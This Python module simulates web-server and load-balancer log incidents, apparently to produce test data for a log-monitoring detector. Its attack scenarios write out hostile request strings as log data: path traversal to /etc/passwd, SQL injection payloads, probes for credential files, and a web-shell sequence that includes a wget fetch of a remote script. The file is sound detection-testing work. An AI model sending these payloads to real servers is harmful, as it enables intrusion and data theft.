"""Incidents of the web server and load balancer."""

from logwarden_ingestor.simulate.incidents.incident import attack, decoy, failure
from logwarden_ingestor.simulate.quiet.web import PARENT, SITE, access, agent_of, child
from logwarden_ingestor.simulate.scene import Scene
from logwarden_ingestor.simulate.step import Script

_SCANNER = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"
_SCRIPTS = (
    "/phpmyadmin/index.php /wp-login.php /wp-content/plugins/revslider/temp/update_extract/ "
    "/cgi-bin/test.cgi /cgi-bin/status.sh /shell.php /admin/config.php /vendor/phpunit/eval.php "
    "/xmlrpc.php /.env /.aws/credentials /.git/HEAD /setup.php /solr/admin/info /manager/html "
    "/actuator/env /owa/auth/logon.aspx /boaform/admin/formLogin /HNAP1 /config.json /backup.zip"
).split()


@attack("apache2", risk=55, opening=25, ramp=22)
def script_scan(scene: Scene) -> Script:
    """One address searches the web server for vulnerable scripts."""
    client, cast = scene.cast.stranger(), scene.cast
    for path in cast.shuffled(_SCRIPTS + _SCRIPTS[:12]):
        answer = cast.pick(("404 196", "404 196", "403 199"))
        yield scene.fails("apache2", access(client, f"GET {path}", answer, _SCANNER), 0.7)
        if path.startswith("/cgi-bin"):
            note = f"[client {client}:{cast.port()}] AH02811: stderr from /srv/www{path}: "
            text = f"[cgid:error] {child(cast)} {note}script not found or unable to stat"
            yield scene.fails("apache2", text)


@attack("apache2", risk=90, opening=42, ramp=8)
def path_traversal(scene: Scene) -> Script:
    """Path traversal that ends up reading a system file."""
    client, agent = scene.cast.stranger(), "curl/8.17.0"
    for depth in range(2, scene.cast.between(8, 12)):
        path = "GET /cgi-bin/" + ".%2e/" * depth + "etc/passwd"
        answer = scene.cast.pick(("403 199", "400 226"))
        yield scene.fails("apache2", access(client, path, answer, agent), 2.5)
    found = "GET /icons/" + ".%%32%65/" * 5 + "etc/passwd"
    yield scene.fails("apache2", access(client, found, "200 2145", agent), 3.0)
    found = found.replace("etc/passwd", "srv/orders/config/application.yml")
    yield scene.fails("apache2", access(client, found, "200 3381", agent), 9.0)


@attack("apache2", risk=80, opening=45, ramp=12)
def sql_injection(scene: Scene) -> Script:
    """SQL injection against the product search."""
    client, agent = scene.cast.stranger(), "sqlmap/1.9.11#stable (https://sqlmap.org)"
    tails = ("%27", "%27+OR+1%3D1--", "%27+UNION+SELECT+NULL--", "%27%3BSELECT+PG_SLEEP(5)--")
    for _ in range(scene.cast.between(14, 26)):
        path = f"GET /search?q={scene.cast.between(100, 999)}{scene.cast.pick(tails)}"
        answer = scene.cast.pick(("500 530", "500 530", "200 22108", "403 199"))
        yield scene.fails("apache2", access(client, path, answer, agent), 1.2)


@attack("apache2", risk=70, opening=25, ramp=24)
def web_login_guessing(scene: Scene) -> Script:
    """Passwords of shop accounts are guessed at the login page."""
    client, agent = scene.cast.stranger(), "python-requests/2.32.5"
    for _ in range(scene.cast.between(24, 45)):
        text = access(client, "POST /login", "401 1187", agent, f"{SITE}/login")
        yield scene.fails("apache2", text, 0.8)


@attack("apache2", risk=98, opening=75, ramp=5)
def web_shell(scene: Scene) -> Script:
    """A script is uploaded to the web server and runs commands."""
    client = scene.cast.stranger()
    agent = agent_of(client)
    name = f"/uploads/avatar-{scene.cast.hexadecimal(6)}.php"
    yield scene.warns("apache2", access(client, "POST /account/avatar", "201 64", agent))
    for command in ("id", "uname%20-a", "cat%20/etc/passwd", "wget%20http://198.51.100.7/x.sh"):
        size = scene.cast.between(60, 2300)
        text = access(client, f"GET {name}?cmd={command}", f"200 {size}", agent)
        yield scene.fails("apache2", text, 6.0)
    note = "[cgid:error] {} [client {}:{}] AH01215: sh: 1: nc: not found: /srv/www{}"
    text = note.format(child(scene.cast), client, scene.cast.port(), name)
    yield scene.fails("apache2", text, 4.0)


@failure("apache2", risk=80, opening=50, ramp=10)
def worker_failure(scene: Scene) -> Script:
    """The web server loses its Tomcat workers."""
    cast, worker = scene.cast, scene.cast.pick(("ajp13_a", "ajp13_b"))
    for _ in range(3):
        slow = f"({worker}) connecting to tomcat failed, retry 1 of 2"
        text = f"[jk:warn] {child(cast)} jk_ajp_common.c (1759): {slow}"
        yield scene.warns("apache2", text, 6.0)
    for _ in range(cast.between(8, 14)):
        refused = f"({worker}) connecting to backend failed. Tomcat is probably not started"
        text = f"[jk:error] {child(cast)} ajp_send_request::jk_ajp_common.c (1723): {refused}"
        yield scene.fails("apache2", f"{text} or is listening on the wrong port (errno=111)", 3.0)
        client = cast.customer()
        text = access(client, "POST /api/v1/orders", "503 299", agent_of(client))
        yield scene.fails("apache2", text, 0.1)
    state = f"worker {worker} state changed from OK to ERR; no usable worker in balancer shop"
    yield scene.fails("apache2", f"[jk:error] {child(cast)} service::jk_lb_worker.c: {state}", 1.0)


@failure("apache2", risk=70, opening=40, ramp=12)
def backend_timeouts(scene: Scene) -> Script:
    """Requests to the application time out behind the proxy."""
    cast, backend = scene.cast, f"10.11.0.{scene.cast.between(21, 22)}:8080"
    for _ in range(cast.between(9, 16)):
        client = cast.customer()
        note = f"[client {client}:{cast.port()}] AH01102: error reading status line from remote"
        text = f"[proxy_http:error] {child(cast)} (70007)The timeout specified has expired: {note}"
        yield scene.fails("apache2", f"{text} server {backend}", 4.0)
        request = f"GET /api/v1/products/{cast.between(1000, 9999)}"
        yield scene.fails("apache2", access(client, request, "504 247", agent_of(client)), 0.02)


@failure("apache2", risk=65, opening=55, ramp=4)
def worker_limit(scene: Scene) -> Script:
    """The web server has no thread left for new requests."""
    full = f"[mpm_event:error] {PARENT} AH00484: server reached MaxRequestWorkers setting, "
    busy = f"[mpm_event:warn] {PARENT} AH10159: server is within MinSpareThreads of "
    for _ in range(3):
        yield scene.warns("apache2", f"{busy}MaxRequestWorkers, consider raising it", 10.0)
    for _ in range(scene.cast.between(4, 7)):
        text = f"{full}consider raising the MaxRequestWorkers setting"
        yield scene.fails("apache2", text, 12.0)
        client = scene.cast.customer()
        text = access(client, "GET /catalog", "503 299", agent_of(client))
        yield scene.fails("apache2", text, 1.0)


@failure("apache2", risk=75, opening=55, ramp=5)
def child_crashes(scene: Scene) -> Script:
    """Processes of the web server crash again and again."""
    for _ in range(scene.cast.between(6, 12)):
        died = f"AH00052: child pid {scene.pid()} exit signal Segmentation fault (11)"
        yield scene.fails("apache2", f"[core:notice] {PARENT} {died}", 5.0)
        if scene.cast.chance(0.3):
            text = f"[mpm_event:alert] {PARENT} AH00490: no memory for new child"
            yield scene.fails("apache2", text, 1.0)


@failure("apache2", risk=75, opening=60, ramp=4, before=35)
def certificate_expiry(scene: Scene) -> Script:
    """A certificate of the shop runs out."""
    cast, site = scene.cast, "shop.example.com:443:0"
    for minutes in (3, 2, 1):
        text = f"{site} server certificate expires in {minutes} min, renewal has not run"
        yield scene.warns("apache2", f"[ssl:warn] {PARENT} {text}", 12.0)
    text = f"AH01909: {site} server certificate has expired"
    yield scene.fails("apache2", f"[ssl:error] {PARENT} {text}", 20.0)
    for _ in range(cast.between(6, 12)):
        alert = "error:0A000415:SSL routines::sslv3 alert certificate expired (SSL alert number 45)"
        note = f"[client {cast.customer()}:{cast.port()}] SSL Library Error: {alert}"
        yield scene.fails("apache2", f"[ssl:error] {child(cast)} {note}", 3.0)


@failure("haproxy", risk=85, opening=55, ramp=6)
def backend_down(scene: Scene) -> Script:
    """The load balancer loses its web servers."""
    cast = scene.cast
    checked = 'reason: Layer4 connection problem, info: "Connection refused", check duration: 0ms'
    yield scene.warns(
        "haproxy", f"Health check for server web/web-2 failed, {checked}, status: 2/3 UP"
    )
    down = (
        "0 active and 0 backup servers left. {} sessions active, 0 requeued, 0 remaining in queue."
    )
    yield scene.fails(
        "haproxy", f"Server web/web-2 is DOWN, {checked}. 1 active and 0 backup servers left.", 6.0
    )
    text = f"Server web/web-1 is DOWN, {checked}. {down.format(cast.between(20, 90))}"
    yield scene.fails("haproxy", text, 10.0)
    text = "backend web has no server available!"
    yield scene.fails("haproxy", text, 0.01, effect=scene.mute("haproxy"))
    for _ in range(cast.between(10, 20)):
        client = f"{cast.customer()}:{cast.port()}"
        request = '"GET /{} HTTP/1.1"'.format(cast.pick(("catalog", "cart", "")))
        text = f"{client} [] shop~ web/<NOSRV> 0/-1/-1/-1/0 503 217 - - SC-- 99/97/0/0/0 0/0 "
        yield scene.fails("haproxy", text + request, 0.8)
    back = "reason: Layer7 check passed, code: 200, check duration: 3ms. 1 active servers online."
    text = f"Server web/web-1 is UP, {back}"
    yield scene.says("haproxy", text, 4.0, effect=scene.unmute("haproxy"))


@decoy("apache2", risk=15)
def load_test(scene: Scene) -> Script:
    """An announced load test from inside the network."""
    for _ in range(scene.cast.between(60, 90)):
        path = f"GET /api/v1/products/{scene.cast.between(1, 1100)}"
        answer, write = "200 1312", scene.says
        if scene.cast.chance(0.06):
            answer, write = "429 88", scene.warns
        yield write("apache2", access("10.10.0.77", path, answer, "k6/1.4.0 (loadtest)"), 0.15)


@decoy("apache2", risk=25)
def deploy_with_brief_errors(scene: Scene) -> Script:
    """A deployment with a few failed requests while the server reloads."""
    cast = scene.cast
    notice = f"[mpm_event:notice] {PARENT} "
    yield scene.says("apache2", f"{notice}AH00493: SIGUSR1 received.  Doing graceful restart")
    for _ in range(cast.between(2, 4)):
        client = cast.customer()
        text = access(client, "GET /api/v1/session", "502 341", agent_of(client))
        yield scene.warns("apache2", text, 0.4)
    ready = "AH00489: Apache/2.4.65 (Debian) OpenSSL/3.5.1 configured -- resuming normal operations"
    yield scene.says("apache2", notice + ready, 1.0)
    for _ in range(5):
        text = access("10.20.0.11", "GET /healthz", "200 15", "deploy-smoke-test/3")
        yield scene.says("apache2", text, 0.5)


@decoy("haproxy", risk=15)
def drained_server(scene: Scene) -> Script:
    """One server is drained for maintenance and comes back."""
    name = f"web/web-{scene.cast.between(1, 2)}"
    left = (
        "1 active and 0 backup servers left. 0 sessions active, 0 requeued, 0 remaining in queue."
    )
    yield scene.says("haproxy", f"Server {name} is going DRAIN for maintenance by admin.")
    yield scene.warns("haproxy", f"Server {name} is going DOWN for maintenance. {left}", 20.0)
    yield scene.says("haproxy", f"Server {name} is going UP (leaving forced drain).", 40.0)
    back = "reason: Layer7 check passed, code: 200, check duration: 4ms. 2 active servers online."
    yield scene.says("haproxy", f"Server {name} is UP, {back}", 4.0)
